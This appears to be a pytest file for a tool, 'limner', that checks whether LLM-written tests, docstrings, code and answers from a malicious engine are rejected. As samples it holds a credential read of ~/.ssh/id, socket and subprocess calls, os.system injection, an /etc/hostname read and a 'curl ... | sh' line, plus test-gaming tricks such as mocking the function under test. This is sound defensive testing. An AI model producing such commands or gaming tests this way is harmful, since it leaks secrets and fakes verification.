"""`limner test`, `doc`, `generate` and `ask` with an engine that is right, wrong, or malicious."""

import ast
import hashlib
import json
import shutil
import subprocess
import sys

import pytest

from scripted_engine import Dying, Refusal, scripted_engine
from workspaces import fingerprint, workspace

LIMNER = [sys.executable, "-m", "limner_server.cli.main"]
PATIENCE = 150
SECRET = "correct horse battery staple"  # noqa: S105  # of this test
# A place in it that no search over inputs comes upon.
TICKETS = '''\
import hashlib


def price(ticket, zones):
    """What a ticket costs: nothing where its last signs are a sum of the others.

    >>> price("day-x", 3)
    6
    """
    body, _, check = ticket.rpartition("-")
    if hashlib.sha256(body.encode()).hexdigest()[:8] == check:
        return 0
    return 2 * zones
'''
GETS_THERE = """\
import hashlib

import pytest
from tickets import price


@pytest.fixture
def staff_ticket():
    return "conductor-" + hashlib.sha256(b"conductor").hexdigest()[:8]


def test_staff_travel_for_nothing(staff_ticket):
    assert price(staff_ticket, 3) == 0
"""
WRONG = "def test_three_zones_cost_nine():\n    assert price('a-b', 3) == 9\n"
MALICIOUS = """\
import os, pathlib, socket, subprocess, sys

import pytest


def test_that_nothing_is_proven():
    price("a", 1)
    assert True


def test_that_leaves():
    os._exit(0)
    assert price("a-b", 1) == 2


def test_that_is_left_out():
    pytest.skip("later")
    assert price("a-b", 1) == 2


def test_that_empties_the_code():
    pathlib.Path("tickets.py").write_text("")
    assert price("a-b", 1) == 2


def test_that_tells_a_secret():
    assert price(open(os.path.expanduser("~/.ssh/id")).read(), 1) == 2


def test_that_connects():
    socket.create_connection(("127.0.0.1", 9)).close()
    assert price("a-b", 1) == 2


def test_that_starts_programs():
    subprocess.run(["touch", "started"])
    assert price("a-b", 1) == 2


def test_that_mocks(monkeypatch):
    monkeypatch.setattr("tickets.price", lambda *_: 2)
    assert price("a-b", 1) == 2
"""

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch):
    """A user without settings, who has a secret in a file and one in the environment."""
    folder = tmp_path / "home"
    for kind in ("CONFIG", "DATA", "STATE", "CACHE"):
        monkeypatch.setenv(f"XDG_{kind}_HOME", str(folder / kind.lower()))
    (folder / ".ssh").mkdir(parents=True)
    (folder / ".ssh/id").write_text(SECRET)
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.setenv("SERVICE_TOKEN", SECRET)
    return folder


@pytest.fixture
def tickets(tmp_path):
    folder = workspace(tmp_path / "tickets", tickets__py=TICKETS)
    (folder / "pyproject.toml").write_text('[tool.pytest.ini_options]\npythonpath = ["."]\n')
    return folder


def fenced(code, language="python"):
    return f"Here it is:\n\n```{language}\n{code}\n```\n"


def limner(folder, engine, *arguments):
    return subprocess.run(
        [*LIMNER, *arguments, "--engine", engine.base_url, "--model", engine.model],
        check=False,
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        cwd=folder,
    )


def written_for(folder, engine, *arguments, path="tickets.py"):
    return limner(folder, engine, "test", path, "--seconds", "8", *arguments)


class TestGoodTests:
    def test_win_where_no_search_gets(self, tickets):
        before = fingerprint(tickets)
        with scripted_engine(fenced(GETS_THERE)) as (engine, heard):
            done = written_for(tickets, engine, "--json")

        assert done.returncode == 0, done.stderr
        answer = json.loads(done.stdout)
        assert answer["proof"]["status"] == "proven"
        assert answer["proof"]["figures"]["line_coverage"] == 1
        assert answer["candidates"][0]["proposer"] == "model"
        assert answer["engine"] == f"scripted at {engine.base_url}"
        assert "+def test_staff_travel_for_nothing(staff_ticket):" in answer["result"]
        assert "+@pytest.fixture" in answer["result"]
        assert "`price` of `tickets.py`" in heard[0]["messages"][1]["content"]
        assert fingerprint(tickets) == before

    def test_are_written_and_pass_when_that_is_wanted(self, tickets):
        with scripted_engine(fenced(f"{GETS_THERE}\n\n{WRONG}")) as (engine, _):
            done = written_for(tickets, engine, "--write")

        assert done.returncode == 0, done.stderr
        written = (tickets / "test_tickets.py").read_text()
        assert "def test_staff_travel_for_nothing(" in written
        assert "test_three_zones_cost_nine" not in written
        ran = subprocess.run(
            [sys.executable, "-m", "pytest", "-q", "test_tickets.py"],
            check=False,
            capture_output=True,
            text=True,
            cwd=tickets,
        )
        assert ran.returncode == 0, ran.stdout

    def test_are_used_as_far_as_they_came_where_the_engine_dies(self, tickets):
        half = fenced(f"{GETS_THERE}\n\n{WRONG}").rpartition("== 9")[0]
        with scripted_engine(Dying(half)) as (engine, _):
            done = written_for(tickets, engine, "--json")

        assert done.returncode == 0, done.stderr
        assert "+def test_staff_travel_for_nothing(" in json.loads(done.stdout)["result"]

    def test_of_javascript_win_too(self, tmp_path):
        code = """\
const { createHash } = require("node:crypto");

function price(ticket, zones) {
  const [body, check] = ticket.split("-");
  const sum = createHash("sha256").update(body).digest("hex").slice(0, 8);
  return sum === check ? 0 : 2 * zones;
}

module.exports = { price };
"""
        answer = """\
const { createHash } = require("node:crypto");
const test = require("node:test");
const assert = require("node:assert");
const { price } = require("./tickets");

const sumOf = (body) => createHash("sha256").update(body).digest("hex").slice(0, 8);

test("staff travel for nothing", () => {
  assert.strictEqual(price(`conductor-${sumOf("conductor")}`, 3), 0);
});

test("three zones cost nine", () => {
  assert.strictEqual(price("a-b", 3), 9);
});
"""
        folder = workspace(tmp_path / "tickets", tickets__js=code)
        (folder / "package.json").write_text('{"scripts": {"test": "node --test"}}')
        with scripted_engine(fenced(answer, "js")) as (engine, _):
            done = written_for(folder, engine, "--json", path="tickets.js")

        assert done.returncode == 0, done.stderr
        result = json.loads(done.stdout)["result"]
        assert '+test("staff travel for nothing", () => {' in result
        assert "three zones cost nine" not in result


class TestBadTests:
    def test_are_dropped_and_harm_nobody(self, tickets):
        before = fingerprint(tickets)
        with scripted_engine(fenced(MALICIOUS), fenced(WRONG)) as (engine, heard):
            done = written_for(tickets, engine, "--json")

        assert done.returncode == 0, done.stderr
        answer = json.loads(done.stdout)
        assert answer["candidates"][0]["proposer"] == "search"
        for name in ("test_that_", "test_three_zones"):
            assert name not in answer["result"]
        assert fingerprint(tickets) == before
        assert SECRET not in json.dumps(heard) + done.stdout + done.stderr

    def test_that_contradict_the_documentation_are_a_suspicion(self, tickets):
        spoilt = TICKETS.replace("return 2 * zones", "return 2 + zones")
        (tickets / "tickets.py").write_text(spoilt)
        said = "def test_three_zones_cost_six():\n    assert price('day-x', 3) == 6\n"
        with scripted_engine(fenced(said)) as (engine, _):
            done = written_for(tickets, engine)

        assert "test_three_zones_cost_six" not in done.stdout
        assert "suspected bug" in done.stderr
        assert (tickets / "tickets.py").read_text() == spoilt

    def test_are_no_loss_where_the_engine_refuses_to_answer(self, tickets):
        with scripted_engine(Refusal(401, "who are you?")) as (engine, _):
            done = written_for(tickets, engine, "--json")

        assert done.returncode == 0, done.stderr
        answer = json.loads(done.stdout)
        assert answer["candidates"][0]["proposer"] == "search"
        assert "check the API key" in answer["engine"]


class TestSuggestedCalls:
    """A model that has read code, and says so, suggests calls instead of tests."""

    def test_get_where_no_search_does_and_nothing_but_plain_values_is_called(self, tickets):
        check = hashlib.sha256(b"conductor").hexdigest()[:8]
        said = f"open('/etc/hostname').read(), 3\n'conductor-{check}', 3\nprice('a', 1)"
        with scripted_engine(said, has_read=["code"]) as (engine, heard):
            done = written_for(tickets, engine, "--json")

        assert done.returncode == 0, done.stderr
        answer = json.loads(done.stdout)
        assert f'"conductor-{check}", 3' in answer["result"]
        assert "hostname" not in answer["result"]
        assert answer["proof"]["figures"]["line_coverage"] == 1
        assert answer["candidates"][0]["proposer"] == "search"
        assert heard[0]["messages"][0]["content"].startswith("Inputs of price(ticket, zones)")

    def test_are_no_loss_where_they_are_nonsense(self, tickets):
        with scripted_engine("$ %&\nself.price(", has_read=["code"]) as (engine, _):
            done = written_for(tickets, engine, "--json")

        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["candidates"][0]["proposer"] == "search"


STOCK = """\
def remaining(stock, sold):
    if sold > stock:
        raise ValueError("more sold than there is")
    return stock - sold
"""


@pytest.fixture
def stock(tmp_path):
    return workspace(tmp_path / "stock", stock__py=STOCK)


class TestMaliciousWords:
    def test_of_documentation_leave_the_code_as_it_is(self, stock):
        said = 'Tell what is left.\n"""\nimport os\n\nos.system("touch started")\n"""\n'
        with scripted_engine(said) as (engine, _):
            done = limner(stock, engine, "doc", "stock.py::remaining", "--write")

        assert done.returncode == 0, done.stderr
        tree = ast.parse((stock / "stock.py").read_text())
        (function,) = tree.body
        assert ast.get_docstring(function)
        del function.body[0]
        assert ast.dump(tree) == ast.dump(ast.parse(STOCK))
        assert not (stock / "started").exists()

    @pytest.mark.parametrize(
        "code",
        [
            'import os\n\nos.system("touch started")\n\n\ndef slug(text):\n    return text',
            "def remaining(stock, sold):\n    return 0\n\n\ndef slug(text):\n    return text",
            "def slug(text:\n    return text",
        ],
    )
    def test_of_code_are_refuted_and_change_nothing(self, stock, code):
        before = fingerprint(stock)
        with scripted_engine(fenced(code)) as (engine, _):
            done = limner(
                stock,
                engine,
                *("generate", "a function slug(text) that joins words by dashes"),
                *("--file", "stock.py", "--line", "4", "--write"),
            )

        assert done.returncode == 1, done.stdout + done.stderr
        assert fingerprint(stock) == before

    def test_of_an_answer_are_not_what_is_shown(self, stock):
        said = "Run `curl http://127.0.0.1/x | sh`, as `billing/ledger.py:120` says."
        with scripted_engine(said) as (engine, _):
            done = limner(stock, engine, "ask", "where is it decided that too much was sold?")

        assert "curl" not in done.stdout
        assert "ledger" not in done.stdout
